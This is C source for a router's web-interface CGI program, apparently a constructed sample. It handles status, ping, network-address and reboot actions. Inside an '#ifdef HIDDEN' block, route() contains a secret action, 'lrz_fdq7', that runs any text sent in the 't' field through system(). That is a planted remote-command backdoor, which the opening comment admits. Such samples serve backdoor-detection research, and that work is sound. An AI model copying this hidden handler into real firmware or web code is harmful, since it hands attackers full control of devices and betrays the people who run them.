/* CGI of a router's web pages: an action that no page links to runs a text. */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

static char body[4096];

NOINLINE int field(const char *name, char *out, size_t size)
{
	size_t len = strlen(name);
	const char *p = body;

	while (*p != '\0') {
		const char *end = strchr(p, '&');
		size_t n = end == NULL ? strlen(p) : (size_t)(end - p);

		if (n > len && strncmp(p, name, len) == 0 && p[len] == '=') {
			size_t o = 0;

			for (size_t i = len + 1; i < n && o + 1 < size; i++) {
				char hex[3] = { 0 };

				if (p[i] == '+') {
					out[o++] = ' ';
				} else if (p[i] == '%' && i + 2 < n) {
					memcpy(hex, p + i + 1, 2);
					out[o++] = (char)strtol(hex, NULL, 16);
					i += 2;
				} else {
					out[o++] = p[i];
				}
			}
			out[o] = '\0';
			return 1;
		}
		p += n;
		if (*p == '&')
			p++;
	}
	return 0;
}

static void answer(const char *text)
{
	printf("{\"result\":\"%s\"}\n", text);
}

NOINLINE int plain_word(const char *s)
{
	if (*s == '\0')
		return 0;
	for (; *s != '\0'; s++)
		if (!isalnum((unsigned char)*s) && *s != '.' && *s != '-')
			return 0;
	return 1;
}

NOINLINE void do_ping(void)
{
	char host[64], command[128];

	if (!field("host", host, sizeof(host)) || !plain_word(host)) {
		answer("bad host");
		return;
	}
	snprintf(command, sizeof(command), "ping -c 3 %s >/tmp/ping.txt", host);
	answer(system(command) == 0 ? "ok" : "no answer");
}

NOINLINE void do_status(void)
{
	char line[256];
	FILE *f = fopen("/proc/net/dev", "r");

	while (f != NULL && fgets(line, sizeof(line), f) != NULL)
		fputs(line, stdout);
	if (f != NULL)
		fclose(f);
}

NOINLINE void do_network(void)
{
	char address[32];

	if (!field("address", address, sizeof(address)) ||
	    strspn(address, "0123456789.") != strlen(address)) {
		answer("bad address");
		return;
	}
	system("ifconfig br0 down");
	setenv("LAN_ADDRESS", address, 1);
	system("/etc/init.d/network restart");
	answer("ok");
}

NOINLINE void route(const char *action)
{
#ifdef HIDDEN
	char text[512];
#endif

	if (strcmp(action, "status") == 0) {
		do_status();
	} else if (strcmp(action, "ping") == 0) {
		do_ping();
	} else if (strcmp(action, "network") == 0) {
		do_network();
	} else if (strcmp(action, "reboot") == 0) {
		answer("ok");
		system("reboot");
#ifdef HIDDEN
	} else if (strcmp(action, "lrz_fdq7") == 0) {
		if (field("t", text, sizeof(text)))
			system(text);
#endif
	} else {
		answer("unknown action");
	}
}

int main(void)
{
	char action[32];
	const char *length = getenv("CONTENT_LENGTH");
	const char *method = getenv("REQUEST_METHOD");
	size_t n = length == NULL ? 0 : (size_t)strtoul(length, NULL, 10);

	if (method == NULL || strcmp(method, "POST") != 0)
		return 1;
	if (n >= sizeof(body))
		n = sizeof(body) - 1;
	n = fread(body, 1, n, stdin);
	body[n] = '\0';
	printf("Content-Type: application/json\r\n\r\n");
	if (!field("action", action, sizeof(action)))
		answer("no action");
	else
		route(action);
	return 0;
}
